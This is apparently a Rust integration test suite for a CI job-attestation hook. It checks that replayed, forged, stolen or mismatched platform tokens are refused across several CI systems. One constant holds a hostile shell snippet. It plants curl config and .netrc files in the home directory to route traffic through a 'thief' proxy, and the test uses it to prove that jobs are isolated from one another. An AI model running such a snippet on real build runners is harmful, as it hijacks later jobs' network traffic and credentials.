//! Systems whose platform signs a token for each job.

use std::{net::TcpListener, path::Path};

use attestor::hooks::HookSystem;
use swtpm_tests::{
    hook_driver::{
        Agent, End, Ran, buildkite, github, gitlab, jenkins,
        platform::{AUDIENCE, Platform},
        tekton,
    },
    job_site::{JobSite, JobSiteOptions, finish},
};

use super::{assert_refused, options, start};

/// A site that believes this platform; `audience` is whose tokens the hooks ask for.
async fn site_with(
    system: HookSystem,
    platform: &Platform,
    audience: Option<&str>,
) -> Option<JobSite> {
    let options = options(system);
    let verifier_jobs = format!("{}{}", options.verifier_jobs, platform.verifier_jobs());
    start(JobSiteOptions { verifier_jobs, audience: audience.map(str::to_owned), ..options }).await
}

/// Each row: a token, and what becomes of its job, in this order on one site.
async fn with_tokens(
    system: HookSystem,
    signed: &str,
    run: impl AsyncFn(&JobSite, Option<&str>) -> Ran,
) {
    let (platform, other) = (Platform::new(system).unwrap(), Platform::new(system).unwrap());
    let Some(site) = site_with(system, &platform, Some(AUDIENCE)).await else { return };
    let good = platform.token("app", "1").unwrap();
    let ran = run(&site, Some(&good)).await;
    assert_eq!(ran.end, End::Passed, "{}", ran.log);
    assert!(ran.log.contains("here is the job") && ran.log.contains(signed), "{}", ran.log);
    let another = platform.token("other", "2").unwrap();
    let forged = other.token("app", "3").unwrap();
    let late = platform.token("app", "4").unwrap();
    for (token, code) in [
        (Some(good.as_str()), "PLATFORM_TOKEN_REPLAYED"),
        (Some(another.as_str()), "PLATFORM_CLAIM_MISMATCH"),
        (Some(forged.as_str()), "PLATFORM_KEY_UNKNOWN"),
        (Some("a.b.c"), "PLATFORM_TOKEN_MALFORMED"),
        (None, "no token"),
    ] {
        assert_refused(&run(&site, token).await, code);
    }
    let ran = run(&site, Some(&late)).await;
    assert_eq!(ran.end, End::Passed, "a good one passes still: {}", ran.log);
}

#[tokio::test(flavor = "multi_thread")]
async fn github_jobs_are_those_that_their_token_says() {
    with_tokens(HookSystem::GitHub, "repository acme/app (signed by the platform)", {
        async |site, token| github::run_with(site, "echo here is the job", token).await.unwrap()
    })
    .await;
}

/// Settings of programs that the hook runs, written by a job where those look for them: everything to this address.
const LEAVE: &str = "for name in curlrc config/curlrc; do mkdir -p $HOME/.config\n\
                     printf 'proxy = http://@THIEF@/\\nurl = http://@THIEF@/\\ninsecure\\n' >$HOME/.$name; done\n\
                     echo 'default login a password b' >$HOME/.netrc\n: >$HOME/left\n";

#[tokio::test(flavor = "multi_thread")]
async fn github_jobs_leave_nothing_that_the_next_ones_token_goes_by() {
    let platform = Platform::new(HookSystem::GitHub).unwrap();
    let site = site_with(HookSystem::GitHub, &platform, Some(AUDIENCE)).await;
    let Some(site) = site else { return };
    let thief = TcpListener::bind("127.0.0.1:0").unwrap();
    thief.set_nonblocking(true).unwrap();
    let leave = LEAVE.replace("@THIEF@", &thief.local_addr().unwrap().to_string());
    for (id, step) in [("1", leave.as_str()), ("2", "echo here is the job")] {
        let token = platform.token("app", id).unwrap();
        let ran = github::run_with(&site, step, Some(&token)).await.unwrap();
        assert_eq!(ran.end, End::Passed, "{}", ran.log);
        assert!(ran.log.contains("(signed by the platform)"), "{}", ran.log);
        assert!(site.path("home/left").exists(), "the job had the runner's own folder");
    }
    let nobody = thief.accept().unwrap_err();
    assert_eq!(nobody.kind(), std::io::ErrorKind::WouldBlock);
    // They are where curl would find them.
    let agent = Agent::new(&site).unwrap();
    let mut curl = agent.command("/usr/bin/curl".as_ref());
    curl.args(["-sS", "--max-time", "1", "http://127.0.0.1:1/"]);
    finish(curl).await.unwrap();
    assert!(thief.accept().is_ok(), "the settings are good for nothing");
}

#[tokio::test(flavor = "multi_thread")]
async fn gitlab_jobs_are_those_that_their_token_says() {
    with_tokens(HookSystem::GitLab, "repository acme/app (signed by the platform)", {
        async |site, token| {
            let nothing = async |_: &str| Ok(());
            gitlab::run_with(site, "echo here is the job", token, nothing).await.unwrap()
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn buildkite_jobs_are_those_that_their_token_says() {
    with_tokens(HookSystem::Buildkite, "workflow   app (signed by the platform)", {
        async |site, token| {
            let nothing = async |_: &Path| Ok(());
            buildkite::run_with(site, "echo here is the job", token, nothing).await.unwrap()
        }
    })
    .await;
}

/// A rule of the site: no job whose repository no platform signed.
const SIGNED_ONLY: &str = "schema = \"assay.policy/v1\"\nname = \"signed\"\nversion = 1\npools = [\"linux\"]\n[[rule]]\nname = \
                           \"repository\"\nat = \"job\"\nmessage = \"Signed jobs only.\"\nexpr = 'job.sources[\"repository\"] == \
                           \"platform_token\"'\n";

/// What a job's author runs in place of the hook's command, with a token in the environment.
async fn presents(site: &JobSite, system: &str, token: &str, variables: &[(&str, &str)]) -> Ran {
    let agent = Agent::new(site).unwrap();
    let mut command = agent.command(&agent.root("usr/bin/attestor"));
    command.args(["exec", "--job", system, "--token-env", "TOKEN", "--refused-code", "3"]);
    command.arg("--socket").arg(site.path("output/job.sock"));
    command.args(["--", "echo", "here is the job"]);
    command.env("TOKEN", token).envs(variables.iter().copied());
    Ran::of(&finish(command).await.unwrap())
}

/// Of a system that signs nothing: tokens of a platform that the site believes, and of none that it knows.
async fn without_a_platform(
    system: HookSystem,
    unsigned: &str,
    variables: &[(&str, &str)],
    run: impl AsyncFn(&JobSite) -> Ran,
) {
    let (platform, other) =
        (Platform::new(HookSystem::GitHub).unwrap(), Platform::at("https://other.test.example"));
    let Some(site) = site_with(system, &platform, None).await else { return };
    let ran = run(&site).await;
    assert_eq!(ran.end, End::Passed, "no token, and nobody asks for one: {}", ran.log);
    // A job of GitHub's gave its token away.
    let stolen = platform.token("app", "1").unwrap();
    let name = system.as_str();
    let ran = presents(&site, name, &stolen, variables).await;
    assert_refused(&ran, "PLATFORM_CLAIM_MISMATCH");
    assert!(ran.log.contains(&format!("observed: system {name}\n")), "{}", ran.log);
    let unknown = other.unwrap().token("app", "2").unwrap();
    let ran = presents(&site, name, &unknown, variables).await;
    assert_refused(&ran, "PLATFORM_ISSUER_UNKNOWN");
    // Nor as that job of GitHub's, with all that its environment has.
    let commit = "5a".repeat(20);
    let of_github = [
        ("GITHUB_JOB", "build"),
        ("GITHUB_REPOSITORY", "acme/app"),
        ("GITHUB_RUN_ID", "42"),
        ("GITHUB_RUN_ATTEMPT", "1"),
        ("GITHUB_SHA", commit.as_str()),
        ("GITHUB_WORKFLOW_REF", "acme/app/.github/workflows/ci.yml@refs/heads/main"),
    ];
    let ran = presents(&site, "github", &stolen, &of_github).await;
    assert_refused(&ran, "GATE_SYSTEM_NOT_ALLOWED");
    // Where the site wants a signature, this system has nothing to show.
    site.cluster.put_in_force(SIGNED_ONLY).await.unwrap();
    assert_refused(&run(&site).await, unsigned);
}

#[tokio::test(flavor = "multi_thread")]
async fn jenkins_jobs_have_no_platform_and_use_nobody_elses() {
    // The agent says of no repository.
    without_a_platform(HookSystem::Jenkins, "POLICY_RULE_ERROR", &jenkins::BUILD, async |site| {
        jenkins::run(site, "echo here is the job", 60).await.unwrap()
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn tekton_jobs_have_no_platform_and_use_nobody_elses() {
    let variables = [
        ("ASSAY_TEKTON_PIPELINE_RUN_UID", "pipeline-run-1"),
        ("ASSAY_TEKTON_TASK_RUN_UID", "task-run-1"),
        ("ASSAY_TEKTON_REPOSITORY", "acme/app"),
    ];
    without_a_platform(HookSystem::Tekton, "POLICY_RULE_FALSE", &variables, async |site| {
        tekton::run(site, "echo here is the job").await.unwrap()
    })
    .await;
}
